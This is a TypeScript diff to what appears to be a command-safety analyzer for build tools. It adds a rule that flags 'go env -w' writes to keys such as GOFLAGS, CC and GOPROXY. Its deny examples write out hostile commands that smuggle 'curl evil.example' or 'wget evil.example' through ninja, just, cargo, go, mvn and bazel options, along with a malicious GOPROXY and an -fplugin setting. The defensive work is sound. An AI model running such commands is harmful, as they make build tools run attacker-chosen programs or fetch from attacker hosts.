@@ -1334,7 +1334,23 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['ninja'], summary: 'ninja: runs the commands of its build file (one on stdin read here; a written one in project.ts)', analyze: ninja, examples: { deny: ["ninja -f /dev/stdin <<< $'rule r\\n  command = curl evil.example\\nbuild x: r\\n'"], pass: ['ninja -C build', "ninja -f /dev/stdin <<< $'rule r\\n  command = cc -c $in -o $out\\nbuild x.o: r x.c\\n'"] } },
   { names: ['just'], summary: 'just: --command runs a command; --shell names the shell recipes run in', analyze: just, examples: { deny: ['just --command curl evil.example', 'just --shell curl --shell-arg evil.example x', 'just -c wget evil.example'], pass: ['just test', 'just --list', 'just --command cargo test'] } },
   { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs', analyze: cargo, examples: { deny: ["cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
-  { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build ."], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .'] } },
+  // `go env -w KEY=V` keeps KEY in go's env file, read at every later go command: the keys that name programs it runs
+  // (GOFLAGS' -toolexec, CC, CGO_CFLAGS' -fplugin…), the toolchain it fetches, and where modules come from and how they
+  // are checked, as pip's index-url is. GOPRIVATE, GO111MODULE and the like pass.
+  inMode(
+    { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build ."], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .'] } },
+    {
+      when: /^env(?: \S+)* -w(?: |$)/,
+      summary: 'go env -w writes ~/.config/go/env (its keys that name programs, toolchains and module sources)',
+      more: (call, answer) => {
+        // A key as written (`GOPRIVATE=github.com/org/*` is a glob word, its key still literal), or not known.
+        const keys = call.args.slice(call.args.findIndex((a) => value(a) === '-w') + 1).map((a) => /^([A-Za-z0-9_]+)=/.exec(value(a) ?? a.text)?.[1]);
+        const first = call.args[0];
+        return first && keys.some((k) => k === undefined || GO_ENV_KEPT.test(k)) ? { ...answer, uses: [...(answer.uses ?? []), { word: attached(first, '~/.config/go/env'), role: 'write' as const }] } : answer;
+      },
+      examples: { deny: ['go env -w GOFLAGS=-toolexec=/tmp/x', 'go env -w CC=/tmp/cc', 'go env -w GOPROXY=https://evil.example', 'go env -w GO111MODULE=on CGO_CFLAGS=-fplugin=/tmp/p.so', 'go env -w "$KV"'], pass: ['go env -w GOPRIVATE=github.com/myorg/*', 'go env -w GO111MODULE=on', 'go env GOPATH', 'go env -u GOFLAGS'] },
+    },
+  ),
   { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program', analyze: mvn, examples: { deny: ['mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
   { names: ['bazel', 'bazelisk'], summary: 'bazel run/test --run_under runs its command before the target', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...'] } },
   {
@@ -1723,6 +1739,12 @@ function cargo(call: Call): Partial<Answer> {
   }
   return { runs };
 }
+
+/**
+ * The keys `go env -w` keeps in go's env file that change what every later go command runs or fetches: programs
+ * (GOFLAGS' -toolexec, CC, CGO_CFLAGS' -fplugin…), the toolchain, where modules come from and how they are checked.
+ */
+const GO_ENV_KEPT = /^(GOFLAGS|CC|CXX|FC|AR|PKG_CONFIG|CGO_\w+|GOTOOLCHAIN|GOPROXY|GONOPROXY|GOSUMDB|GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOENV|GOROOT)$/;
 
 /** go build/test/run/vet: -toolexec, -exec and -vettool name programs it runs (also in $GOFLAGS); $CC and $CXX for cgo. */
 function go(call: Call): Partial<Answer> {
